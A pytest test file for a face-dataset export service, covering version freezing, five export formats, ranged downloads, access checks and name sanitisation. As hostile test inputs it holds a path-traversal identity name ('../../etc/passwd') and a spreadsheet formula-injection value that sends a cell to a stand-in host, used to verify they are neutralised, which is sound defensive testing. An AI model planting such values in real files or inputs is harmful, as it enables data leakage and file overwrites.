"""Curated dataset export: versions frozen from a filter, built into five formats, read back by consumers.

Faces are real glint24 crops (FaceFactory rows whose crop is the original JPEG, grouped as the
importer groups crops: ``crop:<sha256>``). Jobs run in-process by calling their task;
test_export_worker.py runs them through a real Celery worker.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage

from webapp.exports import services, tasks
from webapp.exports.layout import DISTRACTOR_LABEL, safe_component
from webapp.exports.models import DatasetVersion, ExportBuild, ExportFile, VersionFace
from webapp.faces.models import Face
from webapp.faces.services import face_relabel
from webapp.identities.models import Identity

from .factories import FaceFactory, IdentityFactory

pytestmark = pytest.mark.django_db

VERSIONS = "/api/v1/exports/versions/"
SPLIT_CYCLE = ("train", "train", "val", "train", "test")  # every split present in a handful of faces


# --- Real faces ---------------------------------------------------------------------------
def glint_faces(root: Path, name: str, identity: Identity | None, count: int, **fields) -> list[Face]:
    """``count`` real crops of one glint24 person as Face rows (identity None: an unknown person)."""
    faces = []
    for index, path in enumerate(sorted((root / "glint24" / name).glob("*.jpg"))[:count]):
        data = path.read_bytes()
        sha = hashlib.sha256(data).hexdigest()
        faces.append(
            FaceFactory(
                identity=identity,
                crop=ContentFile(data, name=f"{sha[:16]}.jpg"),
                content_sha256=sha,
                source_path=f"{name}/{path.name}",
                group_key=f"crop:{sha}",
                split=SPLIT_CYCLE[index % 5],
                box=[0, 0, 112, 112],
                landmarks=[[38.3, 51.7], [73.5, 51.5], [56.0, 71.7], [41.5, 92.4], [70.7, 92.2]],
                status=fields.get("status", Face.Status.VERIFIED),
            )
        )
    return faces


@pytest.fixture
def curated(shared_data):
    """Two chunk-1 VIPs, one chunk-2 VIP, a candidate, unknown people, and faces that must never be exported."""
    vips = {
        "Hugh Laurie": Identity.objects.create(name="Hugh Laurie", role="vip", chunk=1, popularity_rank=1),
        "Tina Fey": Identity.objects.create(name="Tina Fey", role="vip", chunk=1, popularity_rank=2),
        "Keanu Reeves": Identity.objects.create(name="Keanu Reeves", role="vip", chunk=2, popularity_rank=3),
    }
    candidate = Identity.objects.create(name="Halle Berry", role="candidate", popularity_rank=4)
    faces = {name: glint_faces(shared_data, name, identity, 6) for name, identity in vips.items()}
    faces["Halle Berry"] = glint_faces(shared_data, "Halle Berry", candidate, 4)
    faces[None] = glint_faces(shared_data, "Simon Cowell", None, 3)
    # Never exported, whatever the filter: not a face, excluded. Unverified: only with status=non_excluded.
    Face.objects.filter(pk=faces["Tina Fey"][5].pk).update(status=Face.Status.NOT_A_FACE)
    Face.objects.filter(pk=faces["Keanu Reeves"][5].pk).update(status=Face.Status.EXCLUDED)
    Face.objects.filter(pk=faces["Hugh Laurie"][5].pk).update(status=Face.Status.UNVERIFIED)
    return {"vips": vips, "candidate": candidate, "faces": faces}


# --- Driving the API with jobs run in-process -----------------------------------------------
def create_version(client, **body) -> DatasetVersion:
    response = client.post(VERSIONS, body, format="json")
    assert response.status_code == 202, response.data
    assert response.data["state"] == "pending" and response.data["job"]
    tasks.freeze_version(response.data["job"])
    version = DatasetVersion.objects.get(pk=response.data["id"])
    assert version.state == "ready", version.error
    return version


def build(client, version: DatasetVersion, format: str, **extra) -> list[dict]:
    response = client.post(f"{VERSIONS}{version.pk}/build/", {"format": format, **extra}, format="json")
    assert response.status_code == 202, response.data
    tasks.build_export(response.data["job"])
    listed = client.get(f"{VERSIONS}{version.pk}/files/?export_format={format}")
    assert listed.status_code == 200
    return listed.data


def download(client, file: dict, **headers) -> bytes:
    response = client.get(file["download_url"], **headers)
    assert response.status_code == 200, response
    assert response.streaming, "downloads are streamed, never built in memory"
    return b"".join(response.streaming_content)


def fetch(client, files: list[dict], tmp_path: Path) -> dict[str, Path]:
    """Download every file, check it against its listed SHA-256 and size, return local paths by name."""
    local = {}
    for file in files:
        data = download(client, file)
        assert hashlib.sha256(data).hexdigest() == file["sha256"] and len(data) == file["size"], file["name"]
        path = tmp_path / "download" / file["format"] / file["name"]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        local[file["name"]] = path
    return local


def frozen(version: DatasetVersion) -> dict[int, VersionFace]:
    return {row.face_id: row for row in version.faces.all()}


# --- Versions -----------------------------------------------------------------------------
def test_a_version_freezes_the_filtered_faces_with_labels_counts_and_hash(admin_client_api, curated):
    faces = curated["faces"]
    vips_only = create_version(admin_client_api, name="vips", chunks=[1])
    rows = frozen(vips_only)
    expected = {f.pk for f in faces["Hugh Laurie"][:5] + faces["Tina Fey"][:5]}  # verified, chunk 1
    assert set(rows) == expected and vips_only.face_count == 10
    assert {row.label for row in rows.values()} == {"Hugh Laurie", "Tina Fey"}
    assert vips_only.classes == ["Hugh_Laurie", "Tina_Fey"]
    assert vips_only.content_hash == services.version_content_hash(version=vips_only)

    everything = create_version(admin_client_api, distractors=True, status="non_excluded")
    rows = frozen(everything)
    never = {faces["Tina Fey"][5].pk, faces["Keanu Reeves"][5].pk}  # not_a_face, excluded
    assert not never & set(rows)
    assert faces["Hugh Laurie"][5].pk in rows  # unverified is in with non_excluded
    assert everything.face_count == 6 + 5 + 5 + 4 + 3
    distractors = [row for row in rows.values() if row.label == DISTRACTOR_LABEL]
    assert len(distractors) == 7 and {row.role for row in distractors} == {"candidate", "unknown"}
    assert {row.identity_name for row in distractors} == {"Halle Berry", ""}
    counts = {c["label_key"]: c for c in everything.counts}
    assert counts[DISTRACTOR_LABEL]["total"] == 7 and counts[DISTRACTOR_LABEL]["role"] == "distractor"
    assert counts["Keanu_Reeves"]["total"] == 5
    assert sum(c["train"] + c["val"] + c["test"] for c in everything.counts) == everything.face_count

    listing = admin_client_api.get(VERSIONS).data["results"]
    assert [v["id"] for v in listing] == [everything.pk, vips_only.pk]
    assert {c["label_key"]: c["total"] for c in listing[0]["counts"]}["Hugh_Laurie"] == 6


def test_a_freeze_that_stops_halfway_leaves_no_rows_and_a_failed_version(admin_client_api, curated, monkeypatch):
    from webapp.core.services import JobCancelled

    monkeypatch.setattr(services, "FREEZE_BATCH", 4)
    pending = admin_client_api.post(VERSIONS, {"distractors": True}, format="json").data
    seen = []

    def cancel_after_first_batch(fraction, message):
        seen.append(VersionFace.objects.filter(version_id=pending["id"]).count())
        raise JobCancelled("cancelled by request")

    with pytest.raises(JobCancelled):
        services.version_freeze(version_id=pending["id"], progress=cancel_after_first_batch)
    version = DatasetVersion.objects.get(pk=pending["id"])
    assert seen == [4] and version.state == "failed" and not version.faces.exists()
    response = admin_client_api.get(f"{VERSIONS}{version.pk}/compare/?to={version.pk}")
    assert response.status_code == 409


def test_version_listing_does_not_grow_queries_with_versions(admin_client_api, curated, django_assert_max_num_queries):
    first = create_version(admin_client_api, chunks=[1])
    build(admin_client_api, first, "jsonl")
    for _ in range(3):
        create_version(admin_client_api)
    with django_assert_max_num_queries(8):
        response = admin_client_api.get(VERSIONS)
    assert response.data["count"] == 4


def test_relabelling_after_export_leaves_the_version_unchanged_and_the_comparison_shows_it(
    admin_client_api, admin_user, curated, tmp_path
):
    faces, vips = curated["faces"], curated["vips"]
    before = create_version(admin_client_api, name="before", distractors=True)
    first_manifest = fetch(admin_client_api, build(admin_client_api, before, "jsonl"), tmp_path / "a")
    hash_before = before.content_hash

    moved = faces["Hugh Laurie"][0]
    face_relabel(face=moved, identity=vips["Tina Fey"], user=admin_user, reason="was Tina")
    thrown_out = faces["Tina Fey"][1]
    face_relabel(face=thrown_out, status=Face.Status.NOT_A_FACE, user=admin_user)
    Identity.objects.filter(pk=vips["Keanu Reeves"].pk).update(name="Keanu Charles Reeves")  # renamed too

    before.refresh_from_db()
    assert before.content_hash == hash_before == services.version_content_hash(version=before)
    rows = frozen(before)
    assert rows[moved.pk].label == "Hugh Laurie" and thrown_out.pk in rows
    assert {row.label for row in rows.values()} >= {"Keanu Reeves"}
    listed = admin_client_api.get(f"{VERSIONS}{before.pk}/faces/?label_key=Hugh_Laurie&page_size=100").data
    assert moved.pk in {row["face_id"] for row in listed["results"]} and listed["count"] == 5
    # The version's files are unchanged; a new build of it after the relabel gives the same bytes.
    ExportBuild.objects.filter(version=before).delete()
    again = fetch(admin_client_api, build(admin_client_api, before, "jsonl"), tmp_path / "b")
    assert again["manifest.jsonl"].read_bytes() == first_manifest["manifest.jsonl"].read_bytes()

    after = create_version(admin_client_api, name="after", distractors=True)
    assert after.content_hash != before.content_hash
    response = admin_client_api.get(f"{VERSIONS}{before.pk}/compare/?to={after.pk}")
    assert response.status_code == 200
    diff = response.data
    assert (diff["added"], diff["removed"], diff["relabelled"], diff["identical"]) == (0, 1, 1 + 5, False)
    relabels = {e["face_id"]: e for e in diff["examples"]["relabelled"]}
    assert relabels[moved.pk]["from_label"] == "Hugh Laurie" and relabels[moved.pk]["to_label"] == "Tina Fey"
    assert relabels[faces["Keanu Reeves"][0].pk]["to_label"] == "Keanu Charles Reeves"
    assert diff["examples"]["removed"] == [
        {"face_id": thrown_out.pk, "label": "Tina Fey", "split": rows[thrown_out.pk].split}
    ]
    same = admin_client_api.get(f"{VERSIONS}{before.pk}/compare/?to={before.pk}").data
    assert same["identical"] and same["added"] == same["removed"] == same["relabelled"] == 0
    assert same["per_identity"] == []
    per_label = {row["label"]: row for row in diff["per_identity"]}
    assert per_label["Hugh Laurie"] == {
        "label": "Hugh Laurie",
        "added": 0,
        "removed": 0,
        "relabelled_in": 0,
        "relabelled_out": 1,
    }
    assert per_label["Tina Fey"] == {
        "label": "Tina Fey",
        "added": 0,
        "removed": 1,
        "relabelled_in": 1,
        "relabelled_out": 0,
    }
    assert per_label["Keanu Charles Reeves"]["relabelled_in"] == per_label["Keanu Reeves"]["relabelled_out"] == 5


# --- Formats, read back by their consumers ---------------------------------------------------
def test_imagefolder_zip_loads_with_torchvision_and_matches_the_version(admin_client_api, curated, tmp_path):
    from torchvision.datasets import ImageFolder

    version = create_version(admin_client_api, distractors=True)
    (file,) = build(admin_client_api, version, "imagefolder")
    assert file["name"] == "dataset.zip"
    local = fetch(admin_client_api, [file], tmp_path)["dataset.zip"]
    root = tmp_path / "extracted"
    with zipfile.ZipFile(local) as archive:
        assert archive.testzip() is None
        archive.extractall(root)
    manifest = [json.loads(line) for line in (root / "manifest.jsonl").read_text().splitlines()]
    meta = json.loads((root / "version.json").read_text())
    assert meta["content_hash"] == version.content_hash and meta["classes"] == version.classes
    rows = frozen(version)
    assert {m["face_id"] for m in manifest} == set(rows) and len(manifest) == version.face_count
    by_path = {m["image"]: m for m in manifest}
    for split in ("train", "val", "test"):
        dataset = ImageFolder(str(root / split), allow_empty=True)
        assert dataset.classes == version.classes  # the same class indices in every split
        assert len(dataset) == sum(c[split] for c in version.counts)
        for path, target in dataset.samples:
            record = by_path[Path(path).relative_to(root).as_posix()]
            assert target == record["class_index"] and record["split"] == split
            assert dataset.classes[target] == rows[record["face_id"]].label_key
            assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == record["image_sha256"]
        image, _ = dataset[0]
        assert image.size == (112, 112)
    original = Face.objects.get(pk=manifest[0]["face_id"])
    assert manifest[0]["image_sha256"] == original.content_sha256  # the crop's own bytes, untouched


def test_jsonl_and_csv_manifests_carry_labels_splits_boxes_landmarks_and_sources(admin_client_api, curated, tmp_path):
    version = create_version(admin_client_api, distractors=True, status="non_excluded")
    rows = frozen(version)
    jsonl = fetch(admin_client_api, build(admin_client_api, version, "jsonl"), tmp_path)
    records = [json.loads(line) for line in jsonl["manifest.jsonl"].read_text().splitlines()]
    assert json.loads(jsonl["version.json"].read_text())["content_hash"] == version.content_hash
    assert [r["face_id"] for r in records] == sorted(rows)
    for record in records:
        row = rows[record["face_id"]]
        assert (record["label"], record["split"], record["identity_id"], record["source"]) == (
            row.label,
            row.split,
            row.identity_id,
            row.source,
        )
        assert record["image"] == f"{row.split}/{row.label_key}/{row.face_id}.jpg"
        assert record["class_index"] == version.classes.index(row.label_key)
        assert record["box"] == [0.0, 0.0, 112.0, 112.0] and len(record["landmarks"]) == 5
        assert record["source_path"].endswith(".jpg") and default_storage.exists(record["media_path"])

    csv_files = fetch(admin_client_api, build(admin_client_api, version, "csv"), tmp_path)
    with csv_files["manifest.csv"].open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    assert len(table) == version.face_count
    for line, record in zip(table, records, strict=True):
        assert int(line["face_id"]) == record["face_id"] and line["label"] == record["label"]
        assert json.loads(line["landmarks"]) == record["landmarks"] and line["split"] == record["split"]
        assert line["identity_id"] == ("" if record["identity_id"] is None else str(record["identity_id"]))


def test_parquet_holds_image_bytes_in_row_groups_and_loads_with_pandas_and_datasets(
    admin_client_api, curated, tmp_path, monkeypatch
):
    import pandas as pd
    import pyarrow.parquet as pq

    from webapp.exports import formats

    monkeypatch.setattr(formats, "PARQUET_ROW_GROUP", 4)
    version = create_version(admin_client_api, distractors=True)
    local = fetch(admin_client_api, build(admin_client_api, version, "parquet"), tmp_path)
    assert sorted(local) == ["test.parquet", "train.parquet", "val.parquet", "version.json"]
    rows = frozen(version)
    seen = 0
    for split in ("train", "val", "test"):
        frame = pd.read_parquet(local[f"{split}.parquet"])
        expected = sum(c[split] for c in version.counts)
        assert len(frame) == expected and set(frame["split"]) == {split}
        assert pq.ParquetFile(local[f"{split}.parquet"]).metadata.num_row_groups == -(-expected // 4)
        for _, record in frame.iterrows():
            row = rows[record["face_id"]]
            assert record["label"] == row.label and record["class_index"] == version.classes.index(row.label_key)
            data = record["image"]["bytes"]
            assert hashlib.sha256(data).hexdigest() == record["image_sha256"]
            assert data == default_storage.open(row.crop).read()
        seen += len(frame)
    assert seen == version.face_count
    meta = json.loads(pq.read_schema(local["train.parquet"]).metadata[b"facecurator"])
    assert meta["content_hash"] == version.content_hash

    datasets = pytest.importorskip("datasets")
    monkeypatch.setenv("HF_DATASETS_CACHE", str(tmp_path / "hf-cache"))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    loaded = datasets.load_dataset(
        "parquet",
        data_files={split: str(local[f"{split}.parquet"]) for split in ("train", "val", "test")},
        cache_dir=str(tmp_path / "hf-cache"),
    )
    train = loaded["train"]
    assert len(train) == sum(c["train"] for c in version.counts)
    assert type(train.features["image"]).__name__ == "Image"
    assert train.features["class_index"].names == version.classes
    assert train[0]["image"].size == (112, 112)
    assert train.features["class_index"].int2str(train[0]["class_index"]) == rows[train[0]["face_id"]].label_key


def test_webdataset_shards_hold_n_samples_each_as_jpg_and_json(admin_client_api, curated, tmp_path):
    version = create_version(admin_client_api, distractors=True)
    local = fetch(admin_client_api, build(admin_client_api, version, "webdataset", shard_size=4), tmp_path)
    rows = frozen(version)
    samples = {}
    for split in ("train", "val", "test"):
        shards = sorted(name for name in local if name.startswith(f"{split}/"))
        expected = sum(c[split] for c in version.counts)
        assert shards == [f"{split}/shard-{n:06d}.tar" for n in range(-(-expected // 4))]
        for shard in shards:
            with tarfile.open(local[shard]) as tar:
                names = tar.getnames()
                keys = sorted({name.split(".")[0] for name in names})
                assert len(keys) <= 4 and names == [f"{k}.{ext}" for k in keys for ext in ("jpg", "json")]
                for key in keys:
                    image = tar.extractfile(f"{key}.jpg").read()
                    record = json.loads(tar.extractfile(f"{key}.json").read())
                    assert record["split"] == split and int(key) == record["face_id"]
                    assert hashlib.sha256(image).hexdigest() == record["image_sha256"]
                    samples[record["face_id"]] = record
    assert set(samples) == set(rows)
    assert all(samples[i]["label"] == rows[i].label for i in rows)
    meta = json.loads(local["version.json"].read_text())
    assert meta["shard_size"] == 4 and sum(s["samples"] for s in meta["shards"]) == version.face_count


# --- Downloads ------------------------------------------------------------------------------
def test_downloads_honour_byte_ranges(admin_client_api, curated):
    version = create_version(admin_client_api, chunks=[1])
    (file,) = build(admin_client_api, version, "imagefolder")
    whole = download(admin_client_api, file)
    assert len(whole) > 2000

    part = admin_client_api.get(file["download_url"], HTTP_RANGE="bytes=100-1099")
    assert part.status_code == 206 and part["Content-Range"] == f"bytes 100-1099/{len(whole)}"
    assert part["Content-Length"] == "1000" and b"".join(part.streaming_content) == whole[100:1100]
    assert part["Accept-Ranges"] == "bytes" and part["ETag"] == f'"{file["sha256"]}"'
    resumed = admin_client_api.get(file["download_url"], HTTP_RANGE="bytes=1100-", HTTP_IF_RANGE=part["ETag"])
    assert resumed.status_code == 206 and b"".join(resumed.streaming_content) == whole[1100:]
    tail = admin_client_api.get(file["download_url"], HTTP_RANGE="bytes=-10")
    assert tail.status_code == 206 and b"".join(tail.streaming_content) == whole[-10:]
    past = admin_client_api.get(file["download_url"], HTTP_RANGE=f"bytes={len(whole)}-")
    assert past.status_code == 416 and past["Content-Range"] == f"bytes */{len(whole)}"
    changed = admin_client_api.get(file["download_url"], HTTP_RANGE="bytes=0-9", HTTP_IF_RANGE='"another"')
    assert changed.status_code == 200 and b"".join(changed.streaming_content) == whole
    assert 'filename="facecurator-v' in part["Content-Disposition"]

    sums = admin_client_api.get(f"{VERSIONS}{version.pk}/checksums/")
    assert sums.status_code == 200 and sums.content.decode() == f"{file['sha256']}  imagefolder/dataset.zip\n"


# --- Refusals -------------------------------------------------------------------------------
def test_annotators_and_anonymous_users_can_neither_create_nor_download(
    admin_client_api, annotator_client, anonymous_client, admin_user, curated
):
    version = create_version(admin_client_api, chunks=[1])
    (file,) = build(admin_client_api, version, "jsonl")[:1]
    for client, refused in ((annotator_client, {403}), (anonymous_client, {401, 403})):
        assert client.post(VERSIONS, {}, format="json").status_code in refused
        assert client.get(VERSIONS).status_code in refused
        assert client.post(f"{VERSIONS}{version.pk}/build/", {"format": "csv"}, format="json").status_code in refused
        assert client.get(file["download_url"]).status_code in refused
        assert client.get(f"{VERSIONS}{version.pk}/checksums/").status_code in refused
        assert client.get(f"/api/v1/exports/files/{file['id']}/").status_code in refused
    assert not ExportBuild.objects.filter(format="csv").exists()

    from rest_framework.test import APIClient

    key = admin_client_api.post("/api/v1/auth/token/").data["token"]
    script = APIClient()
    script.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    assert hashlib.sha256(download(script, file)).hexdigest() == file["sha256"]


def test_unknown_or_malformed_filters_are_refused_naming_the_field(admin_client_api, curated):
    cases = [
        ({"colour": "blue"}, "colour"),
        ({"status": "all"}, "status"),
        ({"splits": ["holdout"]}, "splits"),
        ({"chunks": ["one"]}, "chunks"),
        ({"sources": "photo"}, "sources"),
        ({"distractors": "maybe"}, "distractors"),
    ]
    for body, field in cases:
        response = admin_client_api.post(VERSIONS, body, format="json")
        assert response.status_code == 400 and field in response.data, (body, response.data)
    assert "Unknown filter 'colour'" in str(admin_client_api.post(VERSIONS, {"colour": 1}, format="json").data)
    assert not DatasetVersion.objects.exists()


def test_an_empty_selection_is_refused(admin_client_api, curated):
    response = admin_client_api.post(VERSIONS, {"chunks": [7]}, format="json")
    assert response.status_code == 400 and "No faces match" in response.data["detail"]
    response = admin_client_api.post(VERSIONS, {"sources": ["frame"], "distractors": True}, format="json")
    assert response.status_code == 400 and response.data["code"] == "empty_selection"
    assert not DatasetVersion.objects.exists()


def test_build_requests_are_checked(admin_client_api, curated):
    pending = admin_client_api.post(VERSIONS, {}, format="json").data  # its freeze job has not run
    response = admin_client_api.post(f"{VERSIONS}{pending['id']}/build/", {"format": "csv"}, format="json")
    assert response.status_code == 409 and "not frozen yet" in response.data["detail"]
    tasks.freeze_version(pending["job"])
    for body, field in (
        ({"format": "tfrecord"}, "format"),
        ({}, "format"),
        ({"format": "webdataset", "shard_size": 0}, "shard_size"),
    ):
        response = admin_client_api.post(f"{VERSIONS}{pending['id']}/build/", body, format="json")
        assert response.status_code == 400 and field in response.data
    response = admin_client_api.post(
        f"{VERSIONS}{pending['id']}/build/", {"format": "csv", "shard_size": 5}, format="json"
    )
    assert response.status_code == 400 and response.data["field"] == "shard_size"


def test_a_second_request_for_the_same_build_reuses_the_running_job(admin_client_api, curated):
    version = create_version(admin_client_api, chunks=[1])
    url = f"{VERSIONS}{version.pk}/build/"
    first = admin_client_api.post(url, {"format": "parquet"}, format="json")
    second = admin_client_api.post(url, {"format": "parquet"}, format="json")
    assert (first.status_code, second.status_code) == (202, 200)
    assert second.data["id"] == first.data["id"] and second.data["job"] == first.data["job"]
    other_format = admin_client_api.post(url, {"format": "jsonl"}, format="json")
    assert other_format.status_code == 202 and other_format.data["job"] != first.data["job"]
    tasks.build_export(first.data["job"])
    tasks.build_export(first.data["job"])  # redelivered: a finished job is not run again
    done = admin_client_api.post(url, {"format": "parquet"}, format="json")
    assert done.status_code == 200 and done.data["state"] == "ready" and done.data["job"] == first.data["job"]
    assert ExportBuild.objects.filter(version=version, format="parquet").count() == 1
    assert len(done.data["files"]) == ExportFile.objects.filter(build_id=first.data["id"]).count() > 0


def test_a_failed_build_leaves_no_file_behind_and_can_be_started_again(admin_client_api, curated, media_in_tmp):
    version = create_version(admin_client_api, chunks=[1])
    crop = version.faces.order_by("face_id").last().crop
    data = default_storage.open(crop).read()
    default_storage.delete(crop)
    response = admin_client_api.post(f"{VERSIONS}{version.pk}/build/", {"format": "imagefolder"}, format="json")
    tasks.build_export(response.data["job"])
    failed = ExportBuild.objects.get(pk=response.data["id"])
    assert failed.state == "failed" and "FileNotFoundError" in failed.error and not failed.files.exists()
    exported = [p for p in (media_in_tmp / "exports").rglob("*") if p.is_file()]
    assert exported == []  # neither a final nor a half-written staging file

    default_storage.save(crop, ContentFile(data))
    retry = admin_client_api.post(f"{VERSIONS}{version.pk}/build/", {"format": "imagefolder"}, format="json")
    assert retry.status_code == 202 and retry.data["id"] == failed.pk and retry.data["job"] != response.data["job"]
    tasks.build_export(retry.data["job"])
    assert ExportBuild.objects.get(pk=failed.pk).state == "ready"


# --- Names ----------------------------------------------------------------------------------
NASTY_NAMES = [
    "../../etc/passwd",
    "a/b",
    "a_b",
    "..",
    ".hidden",
    "_distractor",
    "Zoë Kravitz",
    "李小龙",
    "CON",
    "Robert Downey Jr.",
    "tab\there",
    "OBAMA",
    "obama",
    "x" * 150,
]


def test_identity_names_become_safe_unique_folders(admin_client_api, tmp_path):
    for index, name in enumerate(NASTY_NAMES):
        FaceFactory(
            identity=IdentityFactory(name=name, role="vip", chunk=1),
            status="verified",
            split="train",
            group_key=f"crop:nasty-{index}",
        )
    FaceFactory(identity=None, status="verified", split="train", group_key="crop:unknown")
    version = create_version(admin_client_api, distractors=True)
    folders = version.classes
    assert len(folders) == len(NASTY_NAMES) + 1 and len({f.casefold() for f in folders}) == len(folders)
    for folder in folders:
        assert "/" not in folder and "\\" not in folder and folder not in (".", "..")
        assert folder == DISTRACTOR_LABEL or not folder.startswith((".", "_"))
        assert len(folder) <= 120
    labels = {row.label: row.label_key for row in version.faces.filter(role="vip")}
    assert labels["../../etc/passwd"] == "etc_passwd" and labels["李小龙"] == "李小龙"
    assert labels["Zoë Kravitz"] == "Zoë_Kravitz" and labels["_distractor"] == "distractor"
    assert labels["a/b"] != labels["a_b"] and labels["OBAMA"].casefold() != labels["obama"].casefold()
    assert safe_component("..", fallback="x") == "x" and safe_component("CON", fallback="x") == "CON_"

    (file,) = build(admin_client_api, version, "imagefolder")
    local = fetch(admin_client_api, [file], tmp_path)["dataset.zip"]
    with zipfile.ZipFile(local) as archive:
        names = archive.namelist()
        archive.extractall(tmp_path / "x")
    assert all(not n.startswith("/") and ".." not in n.split("/") for n in names)
    extracted = [p for p in (tmp_path / "x").rglob("*") if p.is_file()]
    assert all(p.resolve().is_relative_to((tmp_path / "x").resolve()) for p in extracted)
    assert len([p for p in extracted if p.suffix == ".jpg"]) == version.face_count
    manifest = [json.loads(line) for line in (tmp_path / "x" / "manifest.jsonl").read_text().splitlines()]
    assert {m["label"] for m in manifest} == set(NASTY_NAMES) | {DISTRACTOR_LABEL}


def test_csv_manifest_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(admin_client_api, tmp_path):
    formula_file = '=HYPERLINK("http://evil.example/?leak="&A1,"click").jpg'
    FaceFactory(
        identity=IdentityFactory(name="@SUM(1+1)", role="vip", chunk=1),
        status="verified",
        split="train",
        group_key="crop:formula",
        source_path=f"uploads/{formula_file}",
    )
    FaceFactory(
        identity=IdentityFactory(name="-2+3", role="vip", chunk=1),
        status="verified",
        split="train",
        group_key="crop:minus",
        source_path=formula_file,
    )
    version = create_version(admin_client_api)
    (manifest,) = [f for f in build(admin_client_api, version, "csv") if f["name"] == "manifest.csv"]
    with fetch(admin_client_api, [manifest], tmp_path)["manifest.csv"].open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    by_name = {row["identity_name"]: row for row in table}
    assert set(by_name) == {"'@SUM(1+1)", "'-2+3"}
    assert by_name["'-2+3"]["source_path"] == "'" + formula_file  # the cell starts with ', not =
    assert by_name["'@SUM(1+1)"]["source_path"] == f"uploads/{formula_file}"  # not at the start: harmless
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row.values())
    assert by_name["'-2+3"]["face_id"].isdigit()  # numbers are left as they are


# --- Command and schema ---------------------------------------------------------------------
def test_the_export_dataset_command_freezes_and_builds(curated, tmp_path):
    from django.core.management import call_command

    out = io.StringIO()
    call_command(
        "export_dataset",
        "--name",
        "cli",
        "--chunks",
        "1",
        "--format",
        "csv",
        "webdataset",
        "--shard-size",
        "3",
        "--out",
        str(tmp_path / "out"),
        stdout=out,
    )
    version = DatasetVersion.objects.get(name="cli")
    assert version.face_count == 10 and f"sha256 {version.content_hash}" in out.getvalue()
    copied = sorted(p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*") if p.is_file())
    assert f"v{version.pk}/csv/manifest.csv" in copied and f"v{version.pk}/webdataset/train/shard-000000.tar" in copied
    with pytest.raises(Exception, match="No faces match"):
        call_command("export_dataset", "--chunks", "9", stdout=io.StringIO())


def test_the_export_endpoints_are_in_the_openapi_schema(admin_client_api):
    paths = admin_client_api.get("/api/schema/?format=json").json()["paths"]
    for path in (
        "/api/v1/exports/versions/",
        "/api/v1/exports/versions/{id}/build/",
        "/api/v1/exports/versions/{id}/compare/",
        "/api/v1/exports/versions/{id}/checksums/",
        "/api/v1/exports/versions/{id}/files/",
        "/api/v1/exports/files/{id}/download/",
    ):
        assert path in paths, path
    download = paths["/api/v1/exports/files/{id}/download/"]["get"]
    assert {"200", "206", "416"} <= set(download["responses"])
    assert "202" in paths["/api/v1/exports/versions/"]["post"]["responses"]


def test_of_two_overlapping_runs_of_one_build_the_first_to_finish_keeps_its_files(
    admin_client_api, curated, media_in_tmp, monkeypatch
):
    from webapp.exports import formats

    version = create_version(admin_client_api, chunks=[1])
    build_row, started = services.build_request(version=version, format="csv", start_job=False)
    write_csv, overtaken = formats.write_csv, []

    def slow_writer(rows, ctx):  # while this run writes, another run of the same build finishes
        if not overtaken:
            overtaken.append(True)
            services.build_run(build_id=build_row.pk)
        return write_csv(rows, ctx)

    monkeypatch.setitem(formats.WRITERS, "csv", slow_writer)
    services.build_run(build_id=build_row.pk)
    services.build_run(build_id=build_row.pk)  # ready: nothing is written again
    build_row.refresh_from_db()
    assert started and overtaken and build_row.state == "ready"
    stored = sorted(
        p.relative_to(media_in_tmp).as_posix() for p in (media_in_tmp / "exports").rglob("*") if p.is_file()
    )
    assert stored == sorted(build_row.files.values_list("storage_name", flat=True)) and len(stored) == 2
